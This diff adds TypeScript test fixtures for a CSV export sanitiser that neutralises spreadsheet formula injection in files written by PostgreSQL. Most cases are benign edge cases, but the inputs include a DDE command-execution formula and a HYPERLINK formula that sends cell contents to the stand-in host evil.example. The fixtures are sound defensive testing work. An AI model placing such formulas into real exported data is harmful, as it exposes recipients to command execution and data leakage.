@@ -1,0 +1,57 @@
+/** What PostgreSQL writes, and what leaves the desk. */
+
+/** One cell, as its words are and as a spreadsheet gets them. */
+export const cellCases: Record<string, { words: string; expected: string }> = {
+  'plain words': { words: 'at least 385 people', expected: 'at least 385 people' },
+  nothing: { words: '', expected: '' },
+  'a formula': { words: '=1+1', expected: "'=1+1" },
+  'a formula by plus': { words: '+1', expected: "'+1" },
+  'a formula by minus': { words: '-2+3', expected: "'-2+3" },
+  'a function of old spreadsheets': { words: '@SUM(A1)', expected: "'@SUM(A1)" },
+  'a command': { words: "=cmd|' /C calc'!A0", expected: "'=cmd|' /C calc'!A0" },
+  'a link that leaks': {
+    words: '=HYPERLINK("https://evil.example/?"&A1,"Statement")',
+    expected: '\'=HYPERLINK("https://evil.example/?"&A1,"Statement")',
+  },
+  'a full-width equals sign': { words: '＝1+1', expected: "'＝1+1" },
+  'a full-width plus': { words: '＋1', expected: "'＋1" },
+  'a full-width minus': { words: '－1', expected: "'－1" },
+  'a full-width at sign': { words: '＠SUM', expected: "'＠SUM" },
+  'another full-width character': { words: '！ warning', expected: '！ warning' },
+  'a character with the same first byte': { words: 'ﬁrst', expected: 'ﬁrst' },
+  'a tab': { words: '\t=1', expected: "'\t'=1" },
+  'a tab before words': { words: '\tindented', expected: "'\tindented" },
+  'a carriage return': { words: '\r=1', expected: "'\r'=1" },
+  'a line feed': { words: '\n=1', expected: "'\n'=1" },
+  'a line feed before words': { words: '\nwords', expected: "'\nwords" },
+  'blanks before a formula': { words: '  =1', expected: "  '=1" },
+  'a quotation mark before a formula': { words: '"=1"', expected: '"\'=1"' },
+  'signs within words': { words: 'a=b, c-d, e@f +', expected: 'a=b, c-d, e@f +' },
+  'a sign after a comma': { words: 'x,=1', expected: 'x,=1' },
+  'a formula after a semicolon': { words: 'x;=1', expected: "x;'=1" },
+  'a formula after a semicolon and a blank': { words: 'x; =1', expected: "x; '=1" },
+  'a formula on the second line': { words: 'x\n=1', expected: "x\n'=1" },
+  'a formula after CR LF': { words: 'x\r\n=1', expected: "x\r\n'=1" },
+  'a formula after a tab': { words: 'x\t@y', expected: "x\t'@y" },
+  'a full-width formula on the second line': { words: 'x\n＝1', expected: "x\n'＝1" },
+  'an empty line within': { words: 'x\n\ny', expected: 'x\n\ny' },
+  'a quotation mark after a semicolon': { words: 'x;"=1"', expected: 'x;"\'=1"' },
+  'a dash that is none of ours': { words: '– he said', expected: '– he said' },
+  'an apostrophe of its own': { words: "'=1", expected: "'=1" },
+  'quotation marks': { words: 'He said "no", twice', expected: 'He said "no", twice' },
+  'many languages': { words: 'القتلى ٤١، 死者41人 🛥️', expected: 'القتلى ٤١، 死者41人 🛥️' },
+};
+
+/** Whole files as PostgreSQL writes them. */
+export const fileCases: Record<string, { postgres: string; expected: string }> = {
+  'rows end with CR LF': { postgres: 'a,b\n1,2\n', expected: 'a,b\r\n1,2\r\n' },
+  'line breaks in a cell stay': { postgres: 'a\n"x\ny"\n', expected: 'a\r\n"x\ny"\r\n' },
+  'an empty last cell': { postgres: 'a,b\n1,\n', expected: 'a,b\r\n1,\r\n' },
+  'only empty cells': { postgres: ',,\n,,\n', expected: ',,\r\n,,\r\n' },
+  'an empty quoted cell': { postgres: '"",=1\n', expected: '"",\'=1\r\n' },
+  'a cell after a quoted one': { postgres: '"a,b",=1\n', expected: '"a,b",\'=1\r\n' },
+  'a cell after a line break in quotes': { postgres: '"a\nb",x\n=1,y\n', expected: '"a\nb",x\r\n\'=1,y\r\n' },
+  'a row that begins with a formula': { postgres: '=1,a\n', expected: "'=1,a\r\n" },
+  'a comma in quotes begins no cell': { postgres: '"a,=b",c\n', expected: '"a,=b",c\r\n' },
+  nothing: { postgres: '', expected: '' },
+};
